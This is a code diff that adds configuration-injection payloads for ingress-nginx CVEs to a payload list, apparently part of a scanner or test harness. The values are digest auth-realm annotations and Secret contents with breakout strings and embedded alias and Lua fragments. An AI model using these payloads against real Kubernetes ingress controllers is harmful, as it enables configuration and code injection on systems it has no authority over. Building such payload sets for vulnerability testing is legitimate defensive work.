@@ -112,6 +112,16 @@ PAYLOADS: list[Payload] = [
     Payload("CVE-2025-24513", "auth-secret file", {**_annotation("auth-type", "basic"),
                                                    **_annotation("auth-secret", "auth")},
             secret={"auth": f"user:$apr1$x$y\n}}\n{_ALIAS}"}),
+    # auth-type digest: the realm and the Secret's lines reach a Lua call's arguments and the file it reads.
+    *_each_breakout("CVE-2025-24513", "digest auth-realm",
+                    lambda b: {"annotations": {**_annotation("auth-type", "digest"),
+                                               **_annotation("auth-secret", "auth"),
+                                               **_annotation("auth-realm", "r" + b)},
+                               "secret": {"auth": "user:r" + b + ":" + "a" * 32 + "\n"}}),
+    Payload("CVE-2025-24513", "digest auth-secret file", {**_annotation("auth-type", "digest"),
+                                                          **_annotation("auth-secret", "auth"),
+                                                          **_annotation("auth-realm", "r")},
+            secret={"auth": f"user:r:{'a' * 32}\n\")}}\n{_ALIAS}\n{_LUA}"}),
     # Mirror annotations (CVE-2025-1098).
     *_each_breakout("CVE-2025-1098", "mirror-target",
                     lambda b: {"annotations": _annotation("mirror-target", "http://mirror.example.com/$request_uri" + b)}),
